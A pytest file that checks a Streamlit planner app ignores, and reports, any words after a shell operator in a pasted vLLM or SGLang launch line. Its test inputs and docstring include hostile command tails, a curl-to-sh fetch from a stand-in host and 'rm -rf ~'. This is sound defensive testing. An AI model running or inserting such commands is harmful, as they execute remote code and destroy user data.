"""Words after a shell operator in a pasted launch line (`&& curl ... | sh`, `; rm -rf ~`, `> log`) are
never read as flags and never run: the Planner reads the command before the operator and says what it
left out (kvcalc.command_line.split_shell_tail; issue 26)."""
from __future__ import annotations

import pytest
from apptest import caption_text as note
from apptest import paste_launch_line as paste

pytest.importorskip("streamlit.testing.v1")
LLAMA = "meta-llama/Llama-3.1-8B"

@pytest.mark.parametrize("line,tail", [
    (f"vllm serve {LLAMA} --max-model-len 4096 && curl -s http://x/i.sh | sh --max-model-len 9", "&& curl"),
    (f"python -m sglang.launch_server --model-path {LLAMA} --context-length 4096; rm -rf ~", "; rm -rf ~"),
])
def test_the_words_after_a_shell_operator_are_noted_not_read(line: str, tail: str):
    at = paste(line)
    assert not at.exception
    assert "ignored after the command" in note(at) and tail in note(at)
    assert at.query_params.get("mml") in ("4096", ["4096"], None)         # the flag after the operator unread
